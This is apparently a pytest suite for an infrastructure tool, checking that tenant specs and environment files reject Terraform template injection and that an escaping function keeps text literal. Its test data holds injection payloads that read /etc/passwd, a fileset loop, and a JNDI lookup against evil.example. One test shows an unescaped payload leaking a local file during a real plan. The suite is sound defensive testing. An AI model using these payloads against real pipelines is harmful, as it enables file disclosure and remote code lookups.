"""Terraform template injection: text from specs and environment files never runs as a Terraform expression.

Terraform evaluates `${...}` and `%{...}` in every string of a `.tf.json` file. The models refuse both in
every field (keys included) except the one meant to hold arbitrary text, whose construct escapes it; a
real `terraform plan` shows the escaped text stays literal while the unescaped text reads local files.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from infra.config import ENVIRONMENTS_DIR, parse_environment
from infra.text import literal
from lakeward.errors import LakewardError
from lakeward.tenants.loader import parse_tenant
from policies.base import Resource
from policies.contract import foreign_templates
from policies.registry import by_id
from tests.tenant_specs import set_path, spec

TERRAFORM = shutil.which("terraform") or "/usr/local/bin/terraform"
ATTACKS = [
    '${file("/etc/passwd")}',
    'x ${file("/etc/passwd")} y',
    '%{ for f in fileset("/etc", "*") }${f}%{ endfor }',
    "%{if true}x%{endif}",
    '$${file("/etc/passwd")}',  # written pre-escaped: still not plain text a spec should hold
    "${ local.x }",
    "${path.root}",
]
# Only ASCII `$`, `%` and `{` open a sequence: these look-alikes are plain text to Terraform.
LOOK_ALIKES = [
    '\uff04\uff5bfile("/etc/passwd")\uff5d',
    '\ufe69{file("/etc/passwd")}',
    "$\uff5bx}",
    "100% {sure}",
]
TENANT_FIELDS = [
    "metadata.display_name",
    "metadata.change.reason",
    "metadata.owners.0",
    "spec.groups.readers",
    "spec.abac.masks.0.when",
]


def environment(**changes: Any) -> dict[str, Any]:
    document = yaml.safe_load((ENVIRONMENTS_DIR / "dev.yaml").read_text())
    for path, value in changes.items():
        set_path(document, path, value)
    return document


def names(field: str | None, leaf: str) -> bool:
    """Whether an error's field is the edited leaf, the list or map holding it, or (for a shorthand such
    as an endpoint given by name) the field the leaf expands to."""
    field = re.sub(r"\[(\d+)\]", r".\1", field or "")
    return bool(field) and (leaf == field or leaf.startswith(f"{field}.") or field.startswith(f"{leaf}."))


def string_leaves(value: Any, path: str = "") -> list[str]:
    """Dotted paths of every string in a parsed YAML document."""
    if isinstance(value, str):
        return [path]
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else []
    return [leaf for key, item in items for leaf in string_leaves(item, f"{path}.{key}".lstrip("."))]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("field", TENANT_FIELDS)
def test_tenant_spec_refuses_template_sequences(field: str, attack: str) -> None:
    with pytest.raises(LakewardError) as caught:
        parse_tenant(spec(**{field: f"ok {attack}"}), "tenants/claims_analytics.yaml")
    assert names(caught.value.field, field)
    assert "Terraform would evaluate" in caught.value.message


@pytest.mark.parametrize("attack", ATTACKS)
def test_environment_refuses_template_sequences_in_tags_values_and_keys(attack: str) -> None:
    document = environment()
    for tags in ({**document["tags"], "Team": attack}, {**document["tags"], attack: "x"}):
        with pytest.raises(LakewardError) as caught:
            parse_environment({**document, "tags": tags}, "dev.yaml")
        assert caught.value.field is not None and caught.value.field.startswith("tags")


def test_every_string_of_the_shipped_files_refuses_a_template() -> None:
    """Whatever field a platform engineer or a tenant requester edits, `${` there is refused."""
    env = environment()
    for leaf in string_leaves(env):
        if leaf.startswith("serving.blocked_keywords"):
            continue  # free text, escaped on the way out (below)
        document = environment(**{leaf: '${file("/etc/passwd")}'})
        with pytest.raises(LakewardError) as caught:
            parse_environment(document, "dev.yaml")
        assert names(caught.value.field, leaf), (caught.value.field, leaf)
    for leaf in string_leaves(spec()):
        with pytest.raises(LakewardError) as caught:
            parse_tenant(spec(**{leaf: '${file("/etc/passwd")}'}), "tenants/claims_analytics.yaml")
        assert names(caught.value.field, leaf), (caught.value.field, leaf)


def test_control_characters_are_refused() -> None:
    with pytest.raises(LakewardError, match="control character"):
        parse_tenant(spec(**{"metadata.display_name": "Claims\x1b[2J"}), "tenants/claims_analytics.yaml")


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alikes_are_plain_text(text: str) -> None:
    tenant = parse_tenant(spec(**{"metadata.display_name": text[:80]}), "tenants/claims_analytics.yaml")
    assert tenant.metadata.display_name == text[:80]
    assert list(foreign_templates(text)) == []


@pytest.mark.parametrize(
    ("value", "tag"),
    [("a" * 257, "Team"), ("x", "k" * 129), ("semi;colon", "Team"), ("x", "aws:team"), ("x", "Team<")],
)
def test_environment_tags_follow_the_aws_tag_rules(value: str, tag: str) -> None:
    document = environment()
    with pytest.raises(LakewardError) as caught:
        parse_environment({**document, "tags": {**document["tags"], tag: value}}, "dev.yaml")
    assert caught.value.field.startswith("tags")


def test_literal_escapes_what_terraform_would_read_as_a_sequence() -> None:
    assert literal('${file("x")}') == '$${file("x")}'
    assert literal("%{ if x }") == "%%{ if x }"
    assert literal("$${x}") == "$$${x}"
    assert literal("100% {sure} $5") == "100% {sure} $5"
    for attack in [*ATTACKS, *LOOK_ALIKES]:
        assert list(foreign_templates(literal(attack))) == []


def test_the_scan_grammar_accepts_what_the_stacks_write_and_nothing_else() -> None:
    plain = [
        "${aws_s3_bucket.logs-bucket_32DE7C26.arn}/*",
        "${data.terraform_remote_state.account.outputs.workspace_id}",
        "s3://${data.terraform_remote_state.cross-stack-reference-input-x.outputs.cross-stack-output-y}/t",
        "${terraform.workspace}",
        '{"Resource": ["${aws_s3_bucket.b.arn}", "${aws_s3_bucket.b.arn}/*"]}',
    ]
    assert [s for text in plain for s in foreign_templates(text)] == []
    assert list(foreign_templates({'${file("/etc/passwd")}': "key"})) == ['${file("/etc/passwd")}']
    assert list(foreign_templates(["${aws_s3_bucket.b.arn}${upper(x)}"])) == ["${upper(x)}"]
    assert list(foreign_templates({"a": [{"b": "%{ if true }x%{ endif }"}]})) == [
        "%{ if true }",
        "%{ endif }",
    ]


def terraform(folder: Path, *args: str) -> str:
    done = subprocess.run(
        [TERRAFORM, *args],
        cwd=folder,
        env={
            "HOME": str(folder),
            "PATH": "/usr/bin:/bin",
            "TF_IN_AUTOMATION": "1",
            "CHECKPOINT_DISABLE": "1",
        },
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return done.stdout


def terraform_outputs(folder: Path, values: dict[str, Any]) -> dict[str, Any]:
    """The values a `.tf.json` of outputs holds once Terraform has planned it (offline: no provider)."""
    folder.mkdir(parents=True)
    outputs = {name: {"value": value} for name, value in values.items()}
    (folder / "main.tf.json").write_text(json.dumps({"output": outputs}), encoding="utf-8")
    terraform(folder, "init", "-input=false", "-backend=false")
    terraform(folder, "plan", "-input=false", "-out=plan")
    planned = json.loads(terraform(folder, "show", "-json", "plan"))["planned_values"]["outputs"]
    return {name: output["value"] for name, output in planned.items()}


needs_terraform = pytest.mark.skipif(not Path(TERRAFORM).is_file(), reason="terraform is not installed")


@needs_terraform
def test_terraform_reads_escaped_text_literally_and_unescaped_text_as_code(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("top-secret-marker")
    attacks = [a.replace("/etc/passwd", str(secret)) for a in [*ATTACKS, *LOOK_ALIKES]]
    escaped = terraform_outputs(tmp_path / "escaped", {f"a{i}": literal(a) for i, a in enumerate(attacks)})
    assert escaped == {f"a{i}": attack for i, attack in enumerate(attacks)}
    keyed = terraform_outputs(tmp_path / "keys", {"tags": {literal(attacks[0]): literal(attacks[1])}})
    assert keyed == {"tags": {attacks[0]: attacks[1]}}
    unescaped = terraform_outputs(tmp_path / "unescaped", {"leak": attacks[1]})
    assert unescaped == {"leak": "x top-secret-marker y"}, "the attack this guards against is real"
    assert list(foreign_templates(attacks[1])) and not list(foreign_templates(literal(attacks[1])))


@needs_terraform
def test_blocked_keywords_reach_the_json_escaped_and_plan_literally(tmp_path: Path) -> None:
    """The one free-text field: synthesized with template text, it is written escaped, the scan check
    passes every resource, and Terraform reads the keywords back unchanged."""
    from lakeward.synth import synthesize
    from tests.footprint import Synthesized

    keywords = ["${jndi:ldap://evil.example/a}", '%{ for f in fileset("/", "*") }', "\uff04{x}"]
    environments = tmp_path / "environments"
    environments.mkdir()
    (environments / "dev.yaml").write_text(
        yaml.safe_dump(environment(**{"serving.blocked_keywords": keywords}))
    )
    (tmp_path / "tenants").mkdir()
    out = synthesize(
        "dev", tmp_path / "out", environments_dir=environments, tenants_dir=tmp_path / "tenants"
    ).out
    written = [
        body["ai_gateway"]["guardrails"]["input"]["invalid_keywords"]
        for stack, kind, _, body in Synthesized.load(out).all_resources()
        if kind == "databricks_model_serving"
    ]
    assert written == [[literal(word) for word in keywords]]
    check = by_id()["LKW_DBX_090"]
    for stack, document in Synthesized.load(out).stacks.items():
        for kind, items in document.get("resource", {}).items():
            for name, body in items.items():
                assert check.evaluate(Resource(kind, name, body, document)) == [], f"{stack} {kind}.{name}"
    assert terraform_outputs(tmp_path / "plan", {"keywords": written[0]}) == {"keywords": keywords}
